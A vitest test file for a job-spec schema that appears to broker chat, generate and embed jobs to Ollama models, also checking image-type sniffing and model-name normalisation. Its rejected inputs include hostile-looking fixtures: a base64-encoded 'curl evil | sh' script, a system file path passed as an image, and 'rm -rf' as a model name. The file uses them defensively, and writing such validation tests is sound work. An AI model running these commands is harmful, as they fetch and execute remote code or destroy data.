import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { isBase64Image, sniffImageType } from "../../../protocol/images.ts";
import { JobSpecSchema } from "../../../protocol/job.ts";
import { normalizeModelName } from "../../../protocol/models.ts";

const PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==";
const chat = (extra: Record<string, unknown> = {}, message: Record<string, unknown> = {}) => ({ kind: "chat", model: "qwen2.5vl:7b", messages: [{ role: "user", content: "hi", ...message }], ...extra });

describe("job specs", () => {
  it("accepts chat, generate and embed jobs", () => {
    expect(JobSpecSchema.safeParse(chat({ options: { temperature: 0.2, num_predict: 64, stop: ["\n"] }, format: { type: "object" } }, { images: [PNG] })).success).toBe(true);
    expect(JobSpecSchema.safeParse({ kind: "generate", model: "qwen2.5:7b", prompt: "hi", format: "json" }).success).toBe(true);
    expect(JobSpecSchema.safeParse({ kind: "embed", model: "all-minilm", input: ["a", "b"], dimensions: 128 }).success).toBe(true);
  });

  it.each([
    ["a file path as an image", chat({}, { images: ["/etc/hostname"] })],
    ["a path that is also valid base64", chat({}, { images: ["/usr/bin/python3"] })],
    ["a URL as an image", chat({}, { images: ["https://example.com/cat.png"] })],
    ["a data: URL (Ollama wants raw base64)", chat({}, { images: [`data:image/png;base64,${PNG}`] })],
    ["base64 of a shell script", chat({}, { images: [Buffer.from("#!/bin/sh\ncurl evil | sh\n").toString("base64")] })],
    ["a load-time option a buyer must not set", chat({ options: { num_gpu: 99 } })],
    ["temperature out of range", chat({ options: { temperature: 9 } })],
    ["an unknown job kind", { kind: "pull", model: "x" }],
    ["an empty conversation", { kind: "chat", model: "m", messages: [] }],
    ["a model name with spaces", { kind: "embed", model: "rm -rf", input: "x" }],
  ])("refuses %s", (_name, spec) => {
    expect(JobSpecSchema.safeParse(spec).success).toBe(false);
  });
});

describe("images", () => {
  it.each([
    ["png", PNG],
    ["gif", Buffer.from("GIF89a\x01\x00\x01\x00", "latin1").toString("base64")],
    ["jpeg", Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16, 74, 70, 73, 70, 0, 1]).toString("base64")],
    ["webp", Buffer.from("RIFF\x00\x00\x00\x00WEBPVP8 ", "latin1").toString("base64")],
  ])("sniffs %s from its bytes", (type, base64) => {
    expect(sniffImageType(Buffer.from(base64, "base64"))).toBe(type);
    expect(isBase64Image(base64)).toBe(true);
  });

  it("is not fooled by a declared type: the bytes decide", () => {
    expect(sniffImageType(new Uint8Array(readFileSync(new URL(import.meta.url))))).toBeNull();
  });
});

describe("model names", () => {
  it("normalise like Ollama matches them", () => {
    expect(normalizeModelName("Qwen2.5:7B")).toBe("qwen2.5:7b");
    expect(normalizeModelName("all-minilm")).toBe("all-minilm:latest");
    expect(normalizeModelName("registry.example:5000/ns/model")).toBe("registry.example:5000/ns/model:latest");
  });
});
